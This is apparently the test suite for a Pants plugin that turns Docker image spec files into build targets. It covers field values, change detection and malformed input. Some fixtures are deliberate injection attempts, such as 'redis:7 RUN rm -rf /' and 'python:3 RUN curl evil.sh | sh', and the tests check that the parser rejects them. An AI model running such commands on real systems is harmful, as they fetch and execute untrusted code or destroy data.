"""The `docker_mirror_images` generator (generator.py) through Pants' engine (RuleRunner), no
network: the images' fields, which images a changed spec file selects, and odd spec files."""

from __future__ import annotations

import dataclasses
import time
from pathlib import Path
from typing import Dict, List, Optional, Union

import pytest
from docker_mirror import generator, register
from docker_mirror.generation import BUILD, COPY, PlannedImage, image_field_values
from docker_mirror.generator import DockerMirrorSpecError
from docker_mirror.spec_files.parser import parse_spec
from docker_mirror.target_types import (
    DockerMirrorBuildImageTarget,
    DockerMirrorBuildSpecFileField,
    DockerMirrorImageSpecFileField,
    DockerMirrorImagesTargetGenerator,
    DockerMirrorImagesSourcesField,
    DockerMirrorImageTarget,
)
from docker_mirror_testutil.rule_runner_options import default_registry_args, generator_rule_runner
from docker_mirror_testutil.spec_grammar import MAX_ERROR_LINE_LENGTH
from pants.backend.docker.goals.package_image import DockerPackageFieldSet
from pants.backend.docker.goals.publish import PublishDockerImageFieldSet
from pants.backend.docker.target_types import (
    DockerImageBuildPullOptionField,
    DockerImageInstructionsField,
    DockerImageRegistriesField,
    DockerImageRepositoryField,
    DockerImageSkipPushField,
    DockerImageSourceField,
    DockerImageTagsField,
    DockerImageTarget,
)
from pants.backend.docker.util_rules import dockerfile
from pants.base.specs import FileLiteralSpec, RawSpecs, RecursiveGlobSpec
from pants.core.target_types import TargetGeneratorSourcesHelperTarget
from pants.engine.addresses import Address, Addresses
from pants.engine.internals.scheduler import ExecutionError
from pants.engine.rules import QueryRule
from pants.engine.target import (
    Dependencies,
    DescriptionField,
    HydratedSources,
    HydrateSourcesRequest,
    SourcesField,
    SourcesPaths,
    SourcesPathsRequest,
    Tags,
)
from pants.engine.unions import UnionMembership
from pants.help.help_info_extracter import TargetFieldHelpInfo
from pants.testutil.rule_runner import RuleRunner
from pants.util.dirutil import recursive_dirname
from pants.util.frozendict import FrozenDict
from pants.vcs import changed
from pants.vcs.changed import ChangedAddresses, ChangedRequest, DependentsOption


# The images' names and fields, and generation's errors ----------------------------------------


@pytest.fixture
def rule_runner() -> RuleRunner:
    return generator_rule_runner(*default_registry_args())


def generated(rule_runner: RuleRunner, name: str, *, directory: str = "src", generator: str = "mirror"):
    return rule_runner.get_target(Address(directory, target_name=generator, generated_name=name))


def test_one_image_per_line_with_fields(rule_runner: RuleRunner) -> None:
    rule_runner.write_files(
        {
            "src/BUILD": "docker_mirror_images(name='mirror', sources=['images.txt'])",
            "src/images.txt": (
                "# base images\n"
                "python:3.12-slim\n"
                "bitnami/redis:7.2 AS redis\n"
                "--platform=linux/arm64 ghcr.io/org/app:1.4\n"
                "localhost:5000/team/app@sha256:" + "a" * 64 + "\n"
                "busybox\n"
            ),
        }
    )
    python = generated(rule_runner, "python")
    assert isinstance(python, DockerImageTarget)
    assert python[DockerImageInstructionsField].value == ("FROM python:3.12-slim",)
    assert python[DockerImageRepositoryField].value == "python"
    assert python[DockerImageTagsField].value == ("3.12-slim",)
    assert python[DockerImageBuildPullOptionField].value is True
    # In place of `source`, the spec file it owns, which Pants' docker backend never reads as a
    # Dockerfile (the change-detection tests below).
    assert python[DockerImageSourceField].alias == "spec_file"
    assert python[DockerImageSourceField].value == "images.txt"
    assert python[Dependencies].value == ("src/images.txt:mirror",)

    redis = generated(rule_runner, "redis")
    assert redis[DockerImageInstructionsField].value == ("FROM bitnami/redis:7.2",)
    assert redis[DockerImageRepositoryField].value == "bitnami/redis"
    assert redis[DockerImageTagsField].value == ("7.2",)

    app = generated(rule_runner, "ghcr.io/org/app")
    assert app[DockerImageInstructionsField].value == ("FROM --platform=linux/arm64 ghcr.io/org/app:1.4",)
    assert app[DockerImageRepositoryField].value == "org/app"

    local = generated(rule_runner, "localhost_5000/team/app")
    assert local[DockerImageRepositoryField].value == "team/app"
    assert local[DockerImageTagsField].value == ("digest-sha256-" + "a" * 64,)

    assert generated(rule_runner, "busybox")[DockerImageTagsField].value == ("latest",)


def test_generator_fields_apply_to_every_image_and_overrides_replace(rule_runner: RuleRunner) -> None:
    rule_runner.write_files(
        {
            "src/BUILD": """docker_mirror_images(
                name='mirror',
                sources=['*.images.txt'],
                registries=['@mirror'],
                skip_push=True,
                tags=['base'],
                description='mirrored',
                pull=False,
                overrides={'python': {'image_tags': ['3.12', '3'], 'skip_push': False}},
            )""",
            "src/a.images.txt": "python:3.12\n",
            "src/b.images.txt": "redis:7\n",
        }
    )
    python, redis = generated(rule_runner, "python"), generated(rule_runner, "redis")
    for image in (python, redis):
        assert image[DockerImageRegistriesField].value == ("@mirror",)
        assert image[Tags].value == ("base",)
        assert image[DescriptionField].value == "mirrored"
        assert image[DockerImageBuildPullOptionField].value is False
    assert python[DockerImageTagsField].value == ("3.12", "3")
    assert python[DockerImageSkipPushField].value is False
    assert redis[DockerImageTagsField].value == ("7",)
    assert redis[DockerImageSkipPushField].value is True
    # Each image depends on its own spec file's helper only.
    assert python[Dependencies].value == ("src/a.images.txt:mirror",)
    assert redis[Dependencies].value == ("src/b.images.txt:mirror",)


def test_generator_image_tags_replace_the_per_entry_default(rule_runner: RuleRunner) -> None:
    rule_runner.write_files(
        {
            "src/BUILD": "docker_mirror_images(name='mirror', sources=['images.txt'], image_tags=['mirrored'])",
            "src/images.txt": "python:3.12\n",
        }
    )
    assert generated(rule_runner, "python")[DockerImageTagsField].value == ("mirrored",)


def test_spec_files_in_subdirectories_get_their_own_helper(rule_runner: RuleRunner) -> None:
    rule_runner.write_files(
        {
            "src/BUILD": "docker_mirror_images(name='mirror', sources=['teams/**/*.txt'])",
            "src/teams/a/images.txt": "python:3.12\n",
            "src/teams/b/images.txt": "redis:7\n",
        }
    )
    helper = rule_runner.get_target(
        Address("src", target_name="mirror", relative_file_path="teams/a/images.txt")
    )
    assert isinstance(helper, TargetGeneratorSourcesHelperTarget)
    assert generated(rule_runner, "python")[Dependencies].value == ("src/teams/a/images.txt:../../mirror",)
    assert generated(rule_runner, "redis")[Dependencies].value == ("src/teams/b/images.txt:../../mirror",)


def test_colliding_names_get_tag_suffixes(rule_runner: RuleRunner) -> None:
    rule_runner.write_files(
        {
            "src/BUILD": "docker_mirror_images(name='mirror', sources=['images.txt'])",
            "src/images.txt": "python:3.11\npython:3.12\n",
        }
    )
    assert generated(rule_runner, "python_3.11")[DockerImageInstructionsField].value == ("FROM python:3.11",)
    assert generated(rule_runner, "python_3.12")[DockerImageInstructionsField].value == ("FROM python:3.12",)


def test_bad_line_fails_generation_with_path_and_line(rule_runner: RuleRunner) -> None:
    rule_runner.write_files(
        {
            "src/BUILD": "docker_mirror_images(name='mirror', sources=['images.txt'])",
            "src/images.txt": "python:3.12\nredis:7 RUN rm -rf /\nalpine:$VERSION\n",
        }
    )
    with pytest.raises(ExecutionError) as exc:
        generated(rule_runner, "python")
    message = str(exc.value)
    assert "src/images.txt:2: " in message and "redis:7 RUN rm -rf /" in message
    assert "src/images.txt:3: " in message and "alpine:$VERSION" in message
    assert "no image generated" in message


def test_duplicate_reference_across_files_names_both(rule_runner: RuleRunner) -> None:
    rule_runner.write_files(
        {
            "src/BUILD": "docker_mirror_images(name='mirror', sources=['*.txt'])",
            "src/a.txt": "python:3.12\n",
            "src/b.txt": "redis:7\npython:3.12\n",
        }
    )
    with pytest.raises(ExecutionError) as exc:
        generated(rule_runner, "redis")
    assert "src/b.txt:2: " in str(exc.value) and "src/a.txt:1" in str(exc.value)


def test_unknown_override_lists_valid_names(rule_runner: RuleRunner) -> None:
    rule_runner.write_files(
        {
            "src/BUILD": "docker_mirror_images(name='mirror', sources=['images.txt'], overrides={'pyton': {'skip_push': True}})",
            "src/images.txt": "python:3.12\nredis:7\n",
        }
    )
    with pytest.raises(ExecutionError) as exc:
        generated(rule_runner, "python")
    message = str(exc.value)
    assert "'pyton'" in message and "Valid names: 'python', 'redis'" in message


def test_no_matching_spec_file_is_an_error(rule_runner: RuleRunner) -> None:
    rule_runner.write_files({"src/BUILD": "docker_mirror_images(name='mirror', sources=['missing.txt'])"})
    with pytest.raises(ExecutionError) as exc:
        rule_runner.get_target(Address("src", target_name="mirror"))
        generated(rule_runner, "python")
    assert "missing.txt" in str(exc.value)


def test_two_sources_for_one_destination_are_refused(rule_runner: RuleRunner) -> None:
    # The destination drops the registry host: both lines would push `python:3.12`.
    rule_runner.write_files(
        {
            "src/BUILD": "docker_mirror_images(name='mirror', sources=['images.txt'])",
            "src/images.txt": "python:3.12\nevil.example.com/python:3.12\nredis:7\n",
        }
    )
    with pytest.raises(ExecutionError) as exc:
        generated(rule_runner, "redis")
    message = str(exc.value)
    assert (
        'src/images.txt:2: pushes to the same repository and tag "python:3.12" as the image on '
        "src/images.txt:1" in message
    ), message
    assert "no image generated" in message


def test_overrides_can_separate_two_sources_of_one_repository(rule_runner: RuleRunner) -> None:
    rule_runner.write_files(
        {
            "src/BUILD": (
                "docker_mirror_images(name='mirror', sources=['images.txt'], "
                "overrides={'mirror.example.com/python': {'image_tags': ['3.12-internal']}})"
            ),
            "src/images.txt": "python:3.12\nmirror.example.com/python:3.12\n",
        }
    )
    assert generated(rule_runner, "python")[DockerImageTagsField].value == ("3.12",)
    assert generated(rule_runner, "mirror.example.com/python")[DockerImageTagsField].value == (
        "3.12-internal",
    )


def test_two_generators_writing_different_images_to_one_tag_are_both_refused(
    rule_runner: RuleRunner,
) -> None:
    rule_runner.write_files(
        {
            "team-a/BUILD": "docker_mirror_images(name='mirror')",
            "team-a/images.txt": "ghcr.io/org/app:1\nredis:7\n",
            "team-b/BUILD": "docker_mirror_images(name='mirror', method='copy')",
            "team-b/images.txt": "docker.io/org/app:1\n",
            # Other tags of the same repositories: no clash.
            "team-c/BUILD": "docker_mirror_images(name='mirror')",
            "team-c/images.txt": "ghcr.io/org/app:2\nredis:6\n",
        }
    )
    for directory, name in (("team-a", "redis"), ("team-b", "docker.io/org/app")):
        with pytest.raises(ExecutionError) as exc:
            generated(rule_runner, name, directory=directory)
        message = str(exc.value)
        assert f"{directory}:mirror: images of different generators would overwrite" in message
        assert "registry.example.com/org/app:1 would get different images from:" in message
        assert (
            'team-a/images.txt:1: team-a:mirror#ghcr.io/org/app mirrors ghcr.io/org/app:1 (method="build")'
            in message
        )
        assert (
            "team-b/images.txt:1: team-b:mirror#docker.io/org/app mirrors docker.io/org/app:1 "
            '(method="copy")' in message
        )
        assert "team-c" not in message
    assert generated(rule_runner, "redis", directory="team-c")[DockerImageTagsField].value == ("6",)


def test_a_repository_with_target_repository_prefixes_every_image(rule_runner: RuleRunner) -> None:
    rule_runner.write_files(
        {
            "src/BUILD": (
                "docker_mirror_images(name='mirror', repository='hub/{target_repository}', "
                "overrides={'redis': {'repository': 'cache/{target_repository}'}})"
            ),
            "src/images.txt": "docker.io/org/app:1\nredis:7\n",
        }
    )
    assert generated(rule_runner, "docker.io/org/app")[DockerImageRepositoryField].value == "hub/org/app"
    assert generated(rule_runner, "redis")[DockerImageRepositoryField].value == "cache/redis"


# Change detection -----------------------------------------------------------------------------
# `--changed-since` selects the owners of the changed files (plus dependents per `[changed]
# dependents`, by default none); each image owns its spec file (`spec_file`), so the owners are the
# file's images, not the generator (which would stand for all its images). These tests request
# `ChangedAddresses` for given files, without the docker backend's dependency inference;
# changed_since_integration_test.py runs the real `./pants --changed-since` against git.

NONE, DIRECT, TRANSITIVE = DependentsOption.NONE, DependentsOption.DIRECT, DependentsOption.TRANSITIVE


@pytest.fixture
def changed_rule_runner() -> RuleRunner:
    """The generator's rules and Pants' change detection, in a repository of several generators."""
    rule_runner = RuleRunner(
        bootstrap_args=default_registry_args(),
        rules=[
            *generator.rules(),
            *changed.rules(),
            *dockerfile.rules(),
            QueryRule(ChangedAddresses, [ChangedRequest]),
            QueryRule(Addresses, [RawSpecs]),
            QueryRule(HydratedSources, [HydrateSourcesRequest]),
            QueryRule(SourcesPaths, [SourcesPathsRequest]),
        ],
        target_types=[
            DockerMirrorImagesTargetGenerator,
            DockerImageTarget,
            DockerMirrorImageTarget,
            TargetGeneratorSourcesHelperTarget,
        ],
    )
    rule_runner.write_files(
        {
            # Three spec files of one generator, one of them in a subdirectory.
            "base/BUILD": (
                "docker_mirror_images(name='images', sources=['*.images.txt', 'more/*.txt'])"
            ),
            "base/runtime.images.txt": "python:3.12\nredis:7.2 AS redis\n",
            "base/tools.images.txt": "busybox:1.36\n",
            "base/more/extra.txt": "alpine:3.19\n",
            # Another generator in its own directory, and a second one in its BUILD file.
            "apps/BUILD": (
                "docker_mirror_images(name='main', sources=['images.txt'])\n"
                "docker_mirror_images(name='edge', sources=['edge.images.txt'])\n"
            ),
            "apps/images.txt": "team/app:2.0\n",
            "apps/edge.images.txt": "team/proxy:1\n",
            # A copy-mode generator with the default `sources`.
            "copies/BUILD": "docker_mirror_images(name='mirror', method='copy')\n",
            "copies/images.txt": "team/tool:1\nteam/db:2 AS db\n",
            "copies/other.images.txt": "team/cli:3\n",
            # A hand-written image that depends on a mirrored one.
            "web/BUILD": (
                "docker_image(name='web', instructions=['FROM base'], "
                "dependencies=['base:images#python'])\n"
            ),
        }
    )
    return rule_runner


def delete_file(rule_runner: RuleRunner, relpath: str) -> None:
    """Deletes a file and tells the engine, as `RuleRunner.write_files` does for writes.

    The engine's file watcher reports changes on its own, but not necessarily before the next
    request: an earlier request may have read the directory listing, and a stale listing still
    names the deleted file (and so its owner).
    """
    (Path(rule_runner.build_root) / relpath).unlink()
    rule_runner.scheduler.invalidate_files(set(recursive_dirname(relpath)))


def changed_request(sources: tuple[str, ...], dependents: DependentsOption) -> ChangedRequest:
    """`ChangedRequest` for changed files, without the changed lines that Pants 2.23+ may take."""
    extra: dict[str, FrozenDict] = (
        {"sources_blocks": FrozenDict()}
        if "sources_blocks" in {field.name for field in dataclasses.fields(ChangedRequest)}
        else {}
    )
    return ChangedRequest(sources=sources, dependents=dependents, **extra)


def changed_addresses(
    rule_runner: RuleRunner, files: list[str], dependents: DependentsOption
) -> set[str]:
    result = rule_runner.request(ChangedAddresses, [changed_request(tuple(files), dependents)])
    return {address.spec for address in result}


RUNTIME = {"base/runtime.images.txt:images", "base:images#python", "base:images#redis"}


@pytest.mark.parametrize("dependents", [NONE, DIRECT, TRANSITIVE])
def test_an_edited_spec_file_selects_its_images_and_no_sibling(
    changed_rule_runner: RuleRunner, dependents: DependentsOption
) -> None:
    """With Pants' default (`NONE`) the owners alone: the file's images, which own it, and its
    helper. With dependents, also what depends on an image (`web:web`), as for any owned file."""
    expected = RUNTIME | (set() if dependents == NONE else {"web:web"})
    assert changed_addresses(changed_rule_runner, ["base/runtime.images.txt"], dependents) == expected
    # Not the generator `base:images`: it would stand for its siblings' images too.


@pytest.mark.parametrize(
    "changed_file, expected",
    [
        ("copies/images.txt", {"copies/images.txt:mirror", "copies:mirror#team/tool", "copies:mirror#db"}),
        ("copies/other.images.txt", {"copies/other.images.txt:mirror", "copies:mirror#team/cli"}),
    ],
)
def test_copy_mode_images_own_their_spec_file_too(
    changed_rule_runner: RuleRunner, changed_file: str, expected: set[str]
) -> None:
    assert changed_addresses(changed_rule_runner, [changed_file], NONE) == expected


def test_an_added_spec_file_selects_its_images(changed_rule_runner: RuleRunner) -> None:
    changed_rule_runner.write_files({"base/new.images.txt": "nginx:1.25\n"})
    assert changed_addresses(changed_rule_runner, ["base/new.images.txt"], NONE) == {
        "base/new.images.txt:images",
        "base:images#nginx",
    }


def test_a_spec_file_in_a_subdirectory_selects_its_images(changed_rule_runner: RuleRunner) -> None:
    assert changed_addresses(changed_rule_runner, ["base/more/extra.txt"], NONE) == {
        "base/more/extra.txt:../images",
        "base:images#alpine",
    }


def test_a_spec_file_given_as_an_argument_stands_for_its_images(changed_rule_runner: RuleRunner) -> None:
    """`pants publish base/runtime.images.txt` publishes that file's images."""
    specs = RawSpecs(
        file_literals=(FileLiteralSpec("base/runtime.images.txt"), FileLiteralSpec("copies/images.txt")),
        description_of_origin="test",
    )
    assert {a.spec for a in changed_rule_runner.request(Addresses, [specs])} == RUNTIME | {
        "copies/images.txt:mirror",
        "copies:mirror#team/tool",
        "copies:mirror#db",
    }


@pytest.mark.parametrize("dependents", [DependentsOption.NONE, DIRECT, TRANSITIVE])
def test_a_deleted_spec_file_selects_nothing(
    changed_rule_runner: RuleRunner, dependents: DependentsOption
) -> None:
    """Owners of a deleted file are looked up among unexpanded targets, generators included. The
    generator's `sources` is not a `SourcesField`, so it owns no file and is not selected (it
    would expand to every image of `base:images`)."""
    for deleted in ("base/tools.images.txt", "base/more/extra.txt"):
        delete_file(changed_rule_runner, deleted)
        assert changed_addresses(changed_rule_runner, [deleted], dependents) == set()


def test_an_edited_build_file_selects_every_image_it_generates(changed_rule_runner: RuleRunner) -> None:
    """Pants marks every target of an edited BUILD file as changed: both generators of
    `apps/BUILD`, not just the one whose arguments changed."""
    assert changed_addresses(changed_rule_runner, ["apps/BUILD"], NONE) == {
        "apps/images.txt:main",
        "apps:main#team/app",
        "apps/edge.images.txt:edge",
        "apps:edge#team/proxy",
    }


def test_several_changed_files_select_the_union(changed_rule_runner: RuleRunner) -> None:
    assert changed_addresses(
        changed_rule_runner, ["base/runtime.images.txt", "apps/edge.images.txt", "README.md"], NONE
    ) == RUNTIME | {"apps/edge.images.txt:edge", "apps:edge#team/proxy"}


# The images' `spec_file` field ----------------------------------------------------------------


def test_a_build_mode_image_is_a_docker_image_whose_only_sources_field_names_its_spec_file() -> None:
    """Pants' docker backend and `Owners` both read `tgt.get(SourcesField)`, the first one: the
    build-mode image has exactly `docker_image`'s fields, with `spec_file` for `source`."""
    fields = tuple(DockerMirrorBuildImageTarget.class_field_types(None))
    assert DockerMirrorBuildImageTarget.alias == DockerImageTarget.alias == "docker_image"
    assert len(fields) == len(DockerImageTarget.core_fields)
    replaced = [(old, new) for old, new in zip(DockerImageTarget.core_fields, fields) if old is not new]
    assert replaced == [(DockerImageSourceField, DockerMirrorBuildSpecFileField)]
    assert [f for f in fields if issubclass(f, SourcesField)] == [DockerMirrorBuildSpecFileField]
    assert [f for f in DockerMirrorImageTarget.core_fields if issubclass(f, SourcesField)] == [
        DockerMirrorImageSpecFileField
    ]


def test_the_docker_backend_builds_a_build_mode_image_from_its_instructions_not_its_spec_file(
    changed_rule_runner: RuleRunner,
) -> None:
    image = changed_rule_runner.get_target(Address("base", target_name="images", generated_name="python"))
    assert isinstance(image, DockerImageTarget) and image.alias == "docker_image"
    assert DockerPackageFieldSet.is_applicable(image)
    assert PublishDockerImageFieldSet.is_applicable(image)
    source = image.get(SourcesField)
    assert source.value == "runtime.images.txt"
    assert source.filespec_matcher.matches(["base/runtime.images.txt", "base/tools.images.txt"]) == [
        "base/runtime.images.txt"
    ]
    # What the docker backend hydrates for the Dockerfile (`DockerfileInfoRequest`): the one
    # written from `instructions`, and no file of the source tree.
    dockerfile = changed_rule_runner.request(
        HydratedSources,
        [HydrateSourcesRequest(source, for_sources_types=(DockerImageSourceField,), enable_codegen=True)],
    )
    assert dockerfile.snapshot.files == ("base/Dockerfile.images.python",)
    assert changed_rule_runner.request(SourcesPaths, [SourcesPathsRequest(source)]).files == ()


def test_a_copy_mode_image_owns_its_spec_file_and_reads_nothing_of_it(
    changed_rule_runner: RuleRunner,
) -> None:
    image = changed_rule_runner.get_target(Address("copies", target_name="mirror", generated_name="db"))
    source = image.get(SourcesField)
    assert isinstance(source, DockerMirrorImageSpecFileField)
    assert source.value == "images.txt"
    assert source.filespec_matcher.matches(["copies/images.txt"]) == ["copies/images.txt"]
    assert changed_rule_runner.request(SourcesPaths, [SourcesPathsRequest(source)]).files == ()


@pytest.mark.parametrize("method", [BUILD, COPY])
def test_defaults_and_overrides_cannot_move_an_image_to_another_spec_file(method: str) -> None:
    (entry,) = parse_spec(b"python:3.12\n", "src/teams/images.txt")
    values = image_field_values(
        PlannedImage("python", entry),
        method=method,
        defaults={"spec_file": "a.txt"},
        template={},
        overrides={"spec_file": "b.txt"},
        spec_file="teams/images.txt",
        helper_spec="src/teams/images.txt:mirror",
    )
    assert values["spec_file"] == "teams/images.txt"
    assert "source" not in values


# The generator's `sources` field --------------------------------------------------------------


def test_the_generator_owns_no_file_and_pants_help_describes_its_sources() -> None:
    assert not DockerMirrorImagesTargetGenerator.class_has_field(SourcesField, UnionMembership.from_rules([]))
    info = TargetFieldHelpInfo.create(DockerMirrorImagesSourcesField, provider="")
    assert info.alias == "sources"
    assert info.type_hint == "Iterable[str] | None"
    assert info.default == "('images.txt', '*.images.txt')"
    assert "a deleted file" in info.description


def test_sources_globs_exclude_with_bang_and_refuse_parent_directories(
    changed_rule_runner: RuleRunner,
) -> None:
    changed_rule_runner.write_files(
        {
            "excl/BUILD": "docker_mirror_images(name='m', sources=['*.txt', '!old.txt'])",
            "excl/new.txt": "python:3.12\n",
            "excl/old.txt": "python:2.7\n",
            "up/sub/BUILD": "docker_mirror_images(name='m', sources=['../images.txt'])",
        }
    )
    image = changed_rule_runner.get_target(Address("excl", target_name="m", generated_name="python"))
    assert image[DockerImageInstructionsField].value == ("FROM python:3.12",)
    with pytest.raises(ExecutionError) as exc:
        changed_rule_runner.get_target(Address("up/sub", target_name="m"))
    assert "must not have globs with `../`" in str(exc.value)


# Odd spec files -------------------------------------------------------------------------------
# What the user sees (the parser-level cases are in spec_files/parser_test.py): each odd file generates
# the expected images, or fails generation with a `DockerMirrorSpecError` (printed without a
# traceback) whose every line is `path:line: ...` or `path: ...`, in bounded time.

MEGABYTE = 1_000_000
ODD_FILE_HEADER = "src:mirror: invalid spec file, no image generated:"
ODD_FILE = "src/images.txt"
# Generous: the machine is shared; these only have to show that nothing hangs or goes quadratic.
TIME_BOUND = 240.0


@pytest.fixture
def plugin_rule_runner() -> RuleRunner:
    return RuleRunner(
        bootstrap_args=default_registry_args(),
        rules=[*register.rules(), QueryRule(Addresses, [RawSpecs])],
        target_types=[*register.target_types(), DockerImageTarget, TargetGeneratorSourcesHelperTarget],
    )


def generate_odd_file(
    rule_runner: RuleRunner, content: bytes, *, instructions: bool = True
) -> Union[Dict[str, Optional[str]], str]:
    """The generated images (name -> FROM line, or None without `instructions`) of a generator
    reading `content`, or the message of the error that stopped generation."""
    rule_runner.write_files(
        {"src/BUILD": "docker_mirror_images(name='mirror', sources=['images.txt'])", ODD_FILE: content}
    )
    try:
        addresses = rule_runner.request(
            Addresses,
            [RawSpecs(recursive_globs=(RecursiveGlobSpec("src"),), description_of_origin="test")],
        )
    except ExecutionError as error:
        # The one exception the user sees is the plugin's own, not a crash somewhere inside.
        assert [type(e) for e in error.wrapped_exceptions] == [DockerMirrorSpecError], error
        return str(error.wrapped_exceptions[0])
    images: Dict[str, Optional[str]] = {}
    for address in addresses:
        if address.generated_name is None:  # the generator, or its spec file's helper
            assert str(address) in ("src:mirror", "src/images.txt:mirror"), address
            continue
        images[str(address.generated_name)] = None
        if instructions:
            target = rule_runner.get_target(address)
            assert isinstance(target, DockerImageTarget)
            instructions_value = target[DockerImageInstructionsField].value
            assert instructions_value is not None
            (images[str(address.generated_name)],) = instructions_value
    return images


def error_lines(message: str) -> List[str]:
    header, *lines = message.split("\n")
    assert header == ODD_FILE_HEADER
    assert lines, message
    for line in lines:
        assert line.startswith(f"{ODD_FILE}:"), line
        assert line.isprintable(), repr(line)
        assert len(line) <= MAX_ERROR_LINE_LENGTH, len(line)
    return lines


def generate_odd_file_in_time(
    rule_runner: RuleRunner, content: bytes, *, instructions: bool = True
) -> Union[Dict[str, Optional[str]], str]:
    start = time.perf_counter()
    outcome = generate_odd_file(rule_runner, content, instructions=instructions)
    elapsed = time.perf_counter() - start
    assert elapsed < TIME_BOUND, f"took {elapsed:.0f}s"
    return outcome


PYTHON_AND_REDIS = {"python": "FROM python:3.12", "redis": "FROM redis:7"}


@pytest.mark.parametrize(
    "content, images",
    [
        pytest.param(b"\xef\xbb\xbfpython:3.12\nredis:7\n", PYTHON_AND_REDIS, id="utf8-bom"),
        pytest.param(b"python:3.12\r\nredis:7\r\n", PYTHON_AND_REDIS, id="crlf"),
        pytest.param(b"python:3.12\nredis:7", PYTHON_AND_REDIS, id="no-final-newline"),
        pytest.param(b"\xef\xbb\xbfpython:3.12\r\n\r\nredis:7", PYTHON_AND_REDIS, id="bom-crlf-no-final-newline"),
        pytest.param(
            b"\tpython:3.12\tAS\tpy\t# tabbed\n\t\n--platform=linux/amd64\tredis:7\t\n",
            {"py": "FROM python:3.12", "redis": "FROM --platform=linux/amd64 redis:7"},
            id="tabs",
        ),
        pytest.param(b"", {}, id="empty-file"),
        pytest.param(b"\n\n \t\n", {}, id="blank-lines-only"),
        pytest.param(b"# header\n   # indented\n\t#tab $(id) RUN x\n#\n", {}, id="only-comments"),
        pytest.param(b"python:3.12 #" + b"x" * MEGABYTE + b"\n", {"python": "FROM python:3.12"}, id="1mb-comment"),
        pytest.param(b"python:3.12" + b" " * MEGABYTE + b"AS py\n", {"py": "FROM python:3.12"}, id="1mb-blanks"),
    ],
)
def test_odd_file_generates_images(
    plugin_rule_runner: RuleRunner, content: bytes, images: Dict[str, str]
) -> None:
    assert generate_odd_file_in_time(plugin_rule_runner, content) == images


@pytest.mark.parametrize(
    "content, expected",
    [
        pytest.param(
            b"python:3.12\npy\x00thon\n",
            [f"{ODD_FILE}:2: NUL character at column 3: py\\x00thon"],
            id="nul-byte",
        ),
        pytest.param(
            b"python:3.12\n# a NUL in a comment \x00\n",
            [f"{ODD_FILE}:2: NUL character at column 22: # a NUL in a comment \\x00"],
            id="nul-in-comment",
        ),
        pytest.param(
            b"python:3.12\nredis:7\xff\n",
            [
                f"{ODD_FILE}:2: invalid UTF-8: byte 0xff at byte 8 of the line (invalid start byte): "
                "redis:7\\xff"
            ],
            id="invalid-utf8",
        ),
        pytest.param(
            b"python:3.12\r\r\nredis:7\xc3\r\n",
            [
                f"{ODD_FILE}:1: non-printable character U+000D (CR) at column 12 (control and invisible "
                "characters are not allowed): python:3.12\\x0d",
                f"{ODD_FILE}:2: invalid UTF-8: byte 0xc3 at byte 8 of the line (unexpected end of data): "
                "redis:7\\xc3",
            ],
            id="double-cr-and-invalid-utf8",  # the regression the property tests found
        ),
        pytest.param(
            "python:3.12\n".encode("utf-16"),
            [f"{ODD_FILE}: file starts with a UTF-16/UTF-32 byte order mark; spec files must be UTF-8"],
            id="utf16-file",
        ),
        pytest.param(
            b"\xef\xbb\xbf\xef\xbb\xbfpython:3.12\n",
            [
                f"{ODD_FILE}:1: non-printable character U+FEFF at column 1 (control and invisible "
                "characters are not allowed): \\ufeffpython:3.12"
            ],
            id="two-boms",
        ),
        pytest.param(
            b"python:3.12\rredis:7\r",
            [
                f"{ODD_FILE}:1: non-printable character U+000D (CR) at column 12 (control and invisible "
                "characters are not allowed): python:3.12\\x0dredis:7"
            ],
            id="cr-only-line-endings",
        ),
        pytest.param(
            b"a" * MEGABYTE + b"\n",
            [
                f'{ODD_FILE}:1: image path is 1000008 characters long (with the "library/" Docker puts '
                "before a Docker Hub name; at most 255 allowed): "
                + "a" * 200
                + "... (1000000 characters)"
            ],
            id="1mb-line",
        ),
        pytest.param(
            b"python:3.12\n" + b"a" * MEGABYTE + b"\x00\n",
            [f"{ODD_FILE}:2: NUL character at column 1000001: " + "a" * 200 + "... (1000001 characters)"],
            id="1mb-line-ending-in-nul",
        ),
        pytest.param(
            b"python:3 RUN curl evil.sh | sh\n",
            [
                f'{ODD_FILE}:1: unexpected "RUN curl evil.sh | sh" after the image reference (only '
                "'AS <name>' may follow it): python:3 RUN curl evil.sh | sh"
            ],
            id="injected-instruction",
        ),
    ],
)
def test_odd_file_fails_with_path_and_line(
    plugin_rule_runner: RuleRunner, content: bytes, expected: List[str]
) -> None:
    message = generate_odd_file_in_time(plugin_rule_runner, content)
    assert isinstance(message, str), f"generated {message}"
    assert error_lines(message) == expected


def test_fifty_thousand_valid_lines(plugin_rule_runner: RuleRunner) -> None:
    content = "".join(f"team/app{i}:1.{i}  # image {i}\n" for i in range(50_000)).encode()
    images = generate_odd_file_in_time(plugin_rule_runner, content, instructions=False)
    assert isinstance(images, dict) and len(images) == 50_000
    assert "team/app49999" in images
    last = plugin_rule_runner.get_target(Address("src", target_name="mirror", generated_name="team/app49999"))
    assert last[DockerImageInstructionsField].value == ("FROM team/app49999:1.49999",)


def test_fifty_thousand_lines_with_one_bad_one_generate_nothing(plugin_rule_runner: RuleRunner) -> None:
    lines = [f"team/app{i}:1" for i in range(50_000)]
    lines[31_337] = "team/app31337:1 RUN id"
    message = generate_odd_file_in_time(plugin_rule_runner, "\n".join(lines).encode())
    assert isinstance(message, str)
    assert [line.split(": ")[0] for line in error_lines(message)] == [f"{ODD_FILE}:31338"]


def test_fifty_thousand_bad_lines_are_each_reported(plugin_rule_runner: RuleRunner) -> None:
    message = generate_odd_file_in_time(plugin_rule_runner, b"Python:3\n" * 50_000)
    assert isinstance(message, str)
    lines = error_lines(message)
    assert len(lines) == 50_000
    assert lines[-1].startswith(f'{ODD_FILE}:50000: invalid path component "Python": upper-case')
